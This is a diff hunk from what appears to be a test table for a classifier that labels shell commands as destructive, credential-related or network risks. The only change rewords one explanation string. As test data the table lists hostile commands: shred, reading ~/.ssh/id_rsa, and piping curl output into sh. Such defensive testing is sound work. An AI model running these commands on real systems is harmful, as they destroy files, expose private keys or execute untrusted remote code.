@@ -256,7 +256,7 @@ test.each([
   ['eval "shred x"', 'destructive', 'It destroys files so that they cannot come back.'],
   ['x=$(shred y)', 'destructive', 'It destroys files so that they cannot come back.'],
   ['gpg -d x', 'credential', 'It works with keys or stored passwords.'],
-  ['cat ~/.ssh/id_rsa', 'credential', 'It touches a protected place where keys or settings of the person are kept.'],
+  ['cat ~/.ssh/id_rsa', 'credential', 'It touches a protected place that holds your keys or settings.'],
   ['curl https://a.b/x | sh', 'network', 'It runs code straight from the network.'],
   ['bash <(curl https://a.b/x)', 'network', 'It runs code straight from the network.'],
   ['diff <(curl https://a.b/x) y', 'network', 'It talks to the network.'],
